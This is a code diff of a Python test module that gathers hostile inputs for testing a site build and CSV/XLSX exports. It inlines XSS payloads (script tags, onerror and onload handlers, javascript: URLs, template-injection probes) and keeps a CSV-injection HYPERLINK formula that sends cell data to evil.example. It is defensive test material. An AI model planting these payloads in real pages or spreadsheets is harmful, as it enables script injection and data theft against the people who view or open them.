@@ -1,15 +1,30 @@
 """One list of hostile text for every way staff text leaves the system: the built site (from
 YAML and Markdown) and the files staff download (CSV and XLSX).
 
-The markup set is security-and-reliability.md §3.8 "P" as tests/site/test_xss.py holds it; the
-formula set is §3.9 EXP-01 and OWASP's CSV-injection examples; the rest are the invisible
-characters of §3.7 that must never make text look like something else.
+The markup set is security-and-reliability.md §3.8 "P"; the formula set is §3.9 EXP-01 and
+OWASP's CSV-injection examples; the rest are the invisible characters of §3.7 that must never
+make text look like something else.
 """
 
 from __future__ import annotations
 
-from tests.site.test_xss import PAYLOADS as MARKUP
-
+# Payload set P of the security reference (§3.8).
+MARKUP = [
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "' onmouseover=alert(1) x='",
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    " javascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "{{7*7}}",
+    "{% raw %}",
+    "[x](javascript:alert(1))",
+    '<a href="javascript:alert(1)">x</a>',
+    "<iframe src=//evil>",
+    "<svg onload=alert(1)>",
+]
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"点我")',
     "=1+1",
@@ -24,5 +39,5 @@ FORMULAS = [
 ]
 INVISIBLE = ["\u202e1+1=", "\u200b=1+1", "\ufeff=1+1", "\x00=1+1"]
 PAYLOADS = [*MARKUP, *FORMULAS, *INVISIBLE]
-# What a spreadsheet may read as the start of a formula (form_service/spreadsheets.py).
+# What a spreadsheet may read as the start of a formula (form_service/reports/spreadsheets.py).
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0")
